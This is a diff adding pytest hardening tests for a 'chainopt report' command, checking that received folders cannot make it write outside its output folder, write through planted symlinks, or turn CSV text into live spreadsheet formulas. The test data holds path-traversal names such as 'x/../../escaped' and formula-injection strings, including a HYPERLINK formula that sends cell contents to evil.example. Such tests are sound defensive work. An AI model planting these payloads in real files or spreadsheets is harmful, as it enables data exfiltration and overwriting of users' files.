@@ -1,0 +1,139 @@
+"""``chainopt report`` on a folder someone sent: every file it writes lands directly inside
+the output folder, replaces a link in its way instead of writing through it, and no
+text of the folder becomes a formula in ``comparison.xlsx``.
+
+The hostile folders are the review's reproducers (atkA, atkB, atkC, atkF) rebuilt in
+``tmp_path``: a real results folder and a real comparison of small_chain with the port
+project, edited by hand. Expected outcomes: exit 0, nothing new next to the folder, the
+decoy a link pointed to unchanged, the link now a regular file, the cell text (type
+``s``)."""
+
+from __future__ import annotations
+
+import json
+import shutil
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from openpyxl import load_workbook
+
+from chainopt import api
+from tests.hardening.conftest import cli
+
+DECOY = b"decoy: must stay as it is\n"
+ESCAPE = "x/../../escaped"
+FORMULAS = ['=HYPERLINK("http://evil.example/"&A1,"x")', "+1+2", "@SUM(A1)", "-2+3"]
+SCENARIO = Path(__file__).parents[2] / "scenarios" / "small_port_expansion.yaml"
+
+
+@pytest.fixture(scope="module")
+def solved(tmp_path_factory) -> Path:
+    out = tmp_path_factory.mktemp("solved")
+    api.run("small_chain", out=out, name="small")
+    return out / "small"
+
+
+@pytest.fixture(scope="module")
+def compared(tmp_path_factory) -> Path:
+    out = tmp_path_factory.mktemp("compared")
+    _, _, folder = api.compare(["small_chain", str(SCENARIO)], out=out, name="port", jobs=1)
+    return folder
+
+
+def _received(src: Path, tmp_path: Path) -> Path:
+    """A copy of ``src`` as ``tmp_path/recv`` with a decoy file next to it."""
+    (tmp_path / "decoy.png").write_bytes(DECOY)
+    return Path(shutil.copytree(src, tmp_path / "recv"))
+
+
+def _nothing_outside(tmp_path: Path) -> None:
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["decoy.png", "recv"]
+    assert (tmp_path / "decoy.png").read_bytes() == DECOY
+
+
+def _replaced(link: Path) -> None:
+    assert not link.is_symlink() and link.is_file()
+    assert link.read_bytes() != DECOY
+
+
+def test_project_name_of_a_comparison_stays_in_the_folder(compared, tmp_path):
+    """atkA: an effect ``x/../../escaped`` (and a folder planted so that the path resolves)
+    wrote ``report-onepager-0-...-x/../../escaped.png`` next to the comparison."""
+    recv = _received(compared, tmp_path)
+    eco = recv / "economics.csv"
+    eco.write_text(eco.read_text().replace("far_east_port", ESCAPE))
+    (recv / "report-onepager-0-small_port_expansion-x").mkdir()
+    cli("report", recv, "--png", "--svg", code=0)
+    _nothing_outside(tmp_path)
+    assert not (tmp_path.parent / "escaped.png").exists()
+    made = {p.name for p in recv.glob("report-onepager-*")}
+    assert {"report-onepager-0-small_port_expansion-x_______escaped.png",
+            "report-onepager-0-small_port_expansion-x_______escaped.svg"} <= made
+
+
+def test_manifest_periods_stay_in_the_folder(solved, tmp_path):
+    """atkC: a manifest period ``x/../../esc`` named ``report-sankey-x/../../esc.svg``;
+    the deck drew the same charts into a temporary folder and failed there."""
+    recv = _received(solved, tmp_path)
+    manifest = json.loads((recv / "manifest.json").read_text())
+    manifest["periods"][0] = "x/../../esc"
+    (recv / "manifest.json").write_text(json.dumps(manifest))
+    for d in ("report-sankey-x", "report-map-x"):
+        (recv / d).mkdir()
+    cli("report", recv, "--svg", "--pptx", code=0)
+    _nothing_outside(tmp_path)
+    assert (recv / "report-sankey-x_______esc.svg").is_file()
+    assert (recv / "report.pptx").is_file()
+
+
+@pytest.mark.parametrize("kind", ["run", "comparison"])
+def test_a_planted_link_is_replaced_not_written_through(solved, compared, tmp_path, kind):
+    """atkA, atkB: ``report-capacity.png`` / ``report-cashflow.png`` linking to a file
+    outside; the chart overwrote that file."""
+    recv = _received(solved if kind == "run" else compared, tmp_path)
+    link = recv / ("report-capacity.png" if kind == "run" else "report-cashflow.png")
+    link.symlink_to("../decoy.png")
+    cli("report", recv, "--png", code=0)
+    _nothing_outside(tmp_path)
+    _replaced(link)
+    assert link.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
+
+
+@pytest.mark.parametrize("kind", ["run", "comparison"])
+def test_no_report_file_writes_through_a_link(solved, compared, tmp_path, kind):
+    """Every file report writes (HTML, charts, deck, its preview, the workbook) replaces
+    a link in its way."""
+    recv = _received(solved if kind == "run" else compared, tmp_path)
+    names = ["report.html", "report.pptx", "report-deck.html", "report-product_mix.png"
+             if kind == "run" else "report-objective.png"]
+    names += ["comparison.xlsx"] if kind == "comparison" else []
+    for name in names:
+        (recv / name).symlink_to("../decoy.png")
+    cli("report", recv, "--png", "--pptx", code=0)
+    _nothing_outside(tmp_path)
+    for name in names:
+        _replaced(recv / name)
+
+
+def test_comparison_workbook_cells_are_text(compared, tmp_path):
+    """atkF: ``=HYPERLINK(...)`` in a comparison CSV became a live formula in
+    ``comparison.xlsx``."""
+    recv = _received(compared, tmp_path)
+    pd.DataFrame({"name": FORMULAS, "value": [1.0, -2.0, 3.0, 4.0]}).to_csv(
+        recv / "evil.csv", index=False)
+    cli("report", recv, "--pptx", code=0)
+    ws = load_workbook(recv / "comparison.xlsx")["evil"]
+    cells = [ws.cell(row=i, column=1) for i in range(2, 2 + len(FORMULAS))]
+    assert [c.value for c in cells] == FORMULAS
+    assert [c.data_type for c in cells] == ["s"] * len(FORMULAS)
+    assert ws.cell(row=3, column=2).value == -2  # numbers stay numbers
+    _nothing_outside(tmp_path)
+
+
+def test_comparison_csv_name_is_a_valid_sheet_title(compared, tmp_path):
+    """A CSV named ``a[b]:c.csv`` in a comparison made openpyxl raise (traceback)."""
+    recv = _received(compared, tmp_path)
+    pd.DataFrame({"k": ["a"], "v": [1.0]}).to_csv(recv / "a[b]:c.csv", index=False)
+    cli("report", recv, "--pptx", code=0)
+    assert "a_b__c" in load_workbook(recv / "comparison.xlsx", read_only=True).sheetnames
